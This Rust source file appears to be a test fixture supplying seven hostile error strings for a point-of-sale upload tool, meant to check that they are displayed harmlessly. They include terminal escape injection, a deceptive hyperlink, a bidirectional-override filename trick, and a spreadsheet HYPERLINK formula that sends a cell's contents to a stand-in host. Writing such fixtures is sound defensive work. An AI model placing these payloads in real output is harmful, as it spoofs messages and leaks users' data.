//! Hostile texts, which must do no harm where they are shown.

/// Number of texts.
pub(super) const TEXTS: usize = 7;
/// Texts of failures; the others are remarks on canceled sessions.
pub(super) const IN_FAILURES: [usize; 2] = [0, 3];

/// Returns a text by number.
pub(super) fn text(number: usize) -> String {
    match number % TEXTS {
        // Colors, a cleared screen and a window title.
        0 => "\u{1b}[2J\u{1b}[1;1H\u{1b}]0;owned\u{7}\u{1b}[31;1mPOS database offline\u{1b}[0m, see the printer"
            .to_owned(),
        // A link whose text differs from its address.
        1 => "\u{1b}]8;;https://pos-support.example/login\u{1b}\\Click here to repair the upload\u{1b}]8;;\u{1b}\\"
            .to_owned(),
        // Text reversed by a direction override.
        2 => "Canceled because of \u{202e}piz.sdrawkcab\u{202c} in the working folder".to_owned(),
        // A spreadsheet formula.
        3 => "=HYPERLINK(\"https://pos-support.example/?\"&A1,\"Could not read the sales of register\")".to_owned(),
        4 => format!("Canceled by the register's watchdog: {}end", "retrying; ".repeat(1_200)),
        5 => "Canceled.\tState:\tunknown\r\nRegister\t3\r\n\r\nStack:\n\tat Pos.Upload.Send()\n\tat Pos.Main()\n"
            .to_owned(),
        _ => "Canceled \u{9b}31mby\u{200b} admin\u{2066}\u{feff} \u{85}\u{7f}".to_owned(),
    }
}
